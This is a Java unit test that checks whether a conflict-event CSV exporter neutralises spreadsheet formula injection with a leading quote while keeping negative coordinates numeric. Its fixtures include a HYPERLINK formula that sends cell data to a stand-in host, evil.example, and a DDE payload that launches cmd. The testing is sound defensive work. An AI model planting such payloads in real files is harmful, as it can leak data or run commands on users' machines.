package org.rasid.store.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.rasid.model.Event;
import org.rasid.store.SeedFixtures;

/**
 * Issue 17, item 10: outlets, notes and places starting with = + - @ (or tab, CR) reached the
 * ACLED CSV as-is, so a spreadsheet ran them as formulas. They now get OWASP's leading quote;
 * numbers in the numeric columns stay numbers.
 */
class CsvFormulaTest {
    @Test
    void formulaCellsAreNeutralisedAndNegativeNumbersKept() throws Exception {
        ObjectMapper json = new ObjectMapper();
        ObjectNode n = json.valueToTree(SeedFixtures.result004().events().get(0));
        n.putArray("reported_by").add("=HYPERLINK(\"http://evil.example/?\"&A1,\"سانا\")").add("@SUM(1+1)*cmd|' /C calc'!A0");
        n.putArray("sources");
        n.put("location_ar", "+الزربة");
        n.put("admin2", "\tSY0200");
        ((ObjectNode) n.get("evidence")).put("sentence", "-2+3 قتلى في قصف على الزربة");
        n.put("longitude", -74.25);
        n.put("latitude", -0.5);
        Event e = json.treeToValue(n, Event.class);
        StringWriter out = new StringWriter();
        try (AcledCsvWriter w = new AcledCsvWriter(out)) {
            w.write(e);
        }
        List<List<String>> rows = ExportFormatTest.Csv.parse(out.toString());
        List<String> row = rows.get(1);
        assertTrue(row.get(AcledCsvWriter.COLUMNS.indexOf("source")).startsWith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"سانا\"); @SUM"), row.get(AcledCsvWriter.COLUMNS.indexOf("source")));
        assertEquals("'+الزربة", row.get(AcledCsvWriter.COLUMNS.indexOf("location")));
        assertEquals("'\tSY0200", row.get(AcledCsvWriter.COLUMNS.indexOf("admin2")));
        assertEquals("'-2+3 قتلى في قصف على الزربة", row.get(AcledCsvWriter.COLUMNS.indexOf("notes")));
        assertEquals("-74.25", row.get(AcledCsvWriter.COLUMNS.indexOf("longitude")), "a negative longitude stays a number");
        assertEquals("-0.5", row.get(AcledCsvWriter.COLUMNS.indexOf("latitude")));
    }
}
